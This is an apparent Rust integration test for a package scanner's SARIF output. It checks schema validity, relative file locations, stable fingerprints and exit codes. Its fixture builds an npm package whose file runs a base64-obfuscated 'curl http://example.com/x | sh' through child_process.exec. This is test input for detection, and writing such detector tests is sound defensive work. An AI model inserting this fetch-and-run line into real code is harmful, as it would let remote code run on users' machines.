//! `--format sarif` end to end: `paddock analyze --static --local` and
//! `paddock diff --static --local` print SARIF 2.1.0 logs that validate
//! against the schema, locate findings in the package's files by
//! percent-encoded relative references (never a path of the machine), and
//! `--fail-on` still exits 3.
#![allow(clippy::disallowed_methods)] // a test may read its own environment

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::{paddock, run, text};
use paddock_proto::v1::Ecosystem;
use paddock_testkit::packages::build;
use paddock_testkit::updates::trojan_pair;
use serde_json::Value;

/// Stdout as a SARIF log, checked against the schema and the rule
/// indices; every location relative and inside its base.
fn sarif(stdout: &[u8], work: &Path) -> Value {
    let out = text(stdout);
    assert!(
        !out.contains(&*work.to_string_lossy()),
        "a machine path leaked into the log"
    );
    let log: Value = serde_json::from_str(&out).expect("stdout is one json document");
    let errors = common::sarif_schema_errors(&log);
    assert!(errors.is_empty(), "{errors:#?}");
    let run = &log["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    for result in run["results"].as_array().unwrap() {
        let i = result["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(rules[i]["id"], result["ruleId"]);
        let a = &result["locations"][0]["physicalLocation"]["artifactLocation"];
        assert_eq!(a["uriBaseId"], "PACKAGEROOT");
        let uri = a["uri"].as_str().unwrap();
        assert!(
            uri.is_ascii()
                && !uri.contains(' ')
                && !uri.starts_with('/')
                && !uri.split('/').any(|s| s == ".."),
            "{uri}"
        );
    }
    log
}

/// An npm tarball whose install script has a file name with a space, a
/// `%` and a non-ASCII letter, and runs a decoded shell command.
fn hostile_package(dir: &Path) -> PathBuf {
    let tree = dir.join("tree").join("package");
    std::fs::create_dir_all(tree.join("lib")).unwrap();
    std::fs::write(
        tree.join("package.json"),
        r#"{"name": "sarif-probe", "version": "1.0.0", "main": "index.js"}"#,
    )
    .unwrap();
    std::fs::write(tree.join("index.js"), "module.exports = () => 1;\n").unwrap();
    std::fs::write(
        tree.join("lib").join("a b%ü.js"),
        "const cp = require(\"child_process\");\n\
         cp.exec(Buffer.from(\"Y3VybCBodHRwOi8vZXhhbXBsZS5jb20veCB8IHNo\", \"base64\").toString());\n",
    )
    .unwrap();
    let out = dir.join("sarif-probe-1.0.0.tgz");
    let status = Command::new("tar")
        .arg("czf")
        .arg(&out)
        .arg("-C")
        .arg(dir.join("tree"))
        .arg("package")
        .status()
        .unwrap();
    assert!(status.success());
    out
}

fn analyze(artifact: &Path, extra: &[&str]) -> std::process::Output {
    run(paddock()
        .args(["analyze", "--static", "--format", "sarif", "--local"])
        .arg(artifact)
        .args(extra))
}

#[test]
fn analyze_prints_a_valid_log_located_in_the_package_files() {
    let dir = tempfile::tempdir().unwrap();
    let artifact = hostile_package(dir.path());
    let out = analyze(&artifact, &[]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let log = sarif(&out.stdout, dir.path());
    let run = &log["runs"][0];
    assert_eq!(run["tool"]["driver"]["name"], "paddock");
    // Every shipped rule is described, not only those that fired.
    assert!(run["tool"]["driver"]["rules"].as_array().unwrap().len() > 20);
    assert_eq!(run["properties"]["package"]["name"], "sarif-probe");
    assert_eq!(
        run["automationDetails"]["id"],
        "paddock/analyze/npm/sarif-probe/"
    );
    let verdict = run["properties"]["verdict"]["severity"].as_str().unwrap();
    assert!(matches!(verdict, "high" | "critical"), "{verdict}");

    let results = run["results"].as_array().unwrap();
    let exec = results
        .iter()
        .find(|r| r["ruleId"] == "threat.exec-decoded")
        .unwrap_or_else(|| panic!("{results:#?}"));
    assert_eq!(exec["level"], "error");
    let physical = &exec["locations"][0]["physicalLocation"];
    assert_eq!(
        physical["artifactLocation"]["uri"],
        "package/lib/a%20b%25%C3%BC.js"
    );
    assert_eq!(physical["region"]["startLine"], 2);
    assert!(physical["region"]["snippet"]["text"]
        .as_str()
        .unwrap()
        .contains("cp.exec("));
    assert!(exec["partialFingerprints"]["paddockFinding/v1"]
        .as_str()
        .unwrap()
        .ends_with(":1"));
    // The same artifact analysed again gives the same fingerprints.
    let again = sarif(&analyze(&artifact, &[]).stdout, dir.path());
    let prints = |log: &Value| -> Vec<Value> {
        log["runs"][0]["results"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["partialFingerprints"].clone())
            .collect()
    };
    assert_eq!(prints(&log), prints(&again));
}

#[test]
fn fail_on_still_exits_3_and_prints_the_log() {
    let dir = tempfile::tempdir().unwrap();
    let artifact = hostile_package(dir.path());
    let out = analyze(&artifact, &["--fail-on", "high"]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("a finding at high or above"));
    let log = sarif(&out.stdout, dir.path());
    assert!(!log["runs"][0]["results"].as_array().unwrap().is_empty());
    // Below the threshold: exit 0, the same log.
    let out = analyze(&artifact, &["--fail-on", "critical"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    sarif(&out.stdout, dir.path());
}

#[test]
fn diff_prints_a_valid_log_with_a_result_per_change() {
    let dir = tempfile::tempdir().unwrap();
    let (old, new) = trojan_pair(Ecosystem::Npm);
    let mut paths = Vec::new();
    for pkg in [&old, &new] {
        let built = build(pkg);
        let path = dir.path().join(&built.filename);
        std::fs::write(&path, &built.bytes).unwrap();
        paths.push(path);
    }
    let json = run(paddock()
        .args(["diff", "--static", "--format", "json", "--local"])
        .args(&paths));
    assert!(json.status.success(), "{}", text(&json.stderr));
    let json: Value = serde_json::from_slice(&json.stdout).unwrap();
    let changes = json["changes"].as_array().unwrap();

    let out = run(paddock()
        .args(["diff", "--static", "--format", "sarif", "--local"])
        .args(&paths));
    assert!(out.status.success(), "{}", text(&out.stderr));
    let log = sarif(&out.stdout, dir.path());
    let run = &log["runs"][0];
    let results = run["results"].as_array().unwrap();
    assert_eq!(results.len(), changes.len(), "one result per change");
    for (r, c) in results.iter().zip(changes) {
        assert_eq!(
            r["partialFingerprints"]["paddockEvidenceHash/v1"],
            c["evidenceHash"]
        );
    }
    // The new install hook counts under its scoring rule, an error.
    let hook = results
        .iter()
        .find(|r| r["properties"]["changeKind"] == "install_hook")
        .unwrap_or_else(|| panic!("{results:#?}"));
    assert_eq!(hook["ruleId"], "install-hook-added");
    assert_eq!(hook["level"], "error");
    assert_eq!(
        hook["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], "package/package.json",
        "at the manifest that declares it"
    );
    assert_eq!(run["properties"]["previousVersion"], "1.4.0");
    assert_eq!(
        run["properties"]["verdict"]["severity"],
        json["verdict"]["severity"]
            .as_str()
            .unwrap()
            .trim_start_matches("SEVERITY_")
            .to_lowercase()
    );
}
